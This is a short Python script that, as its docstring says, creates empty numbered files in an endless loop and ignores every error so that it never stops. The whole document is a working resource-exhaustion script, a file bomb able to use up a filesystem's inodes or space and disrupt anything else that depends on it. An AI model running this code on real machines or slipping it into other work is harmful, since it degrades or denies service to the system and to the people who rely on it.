"""Makes empty files without end."""
number = 0
while True:
    number += 1
    try:
        open(f"{number}", "wb").close()
    except OSError:
        pass
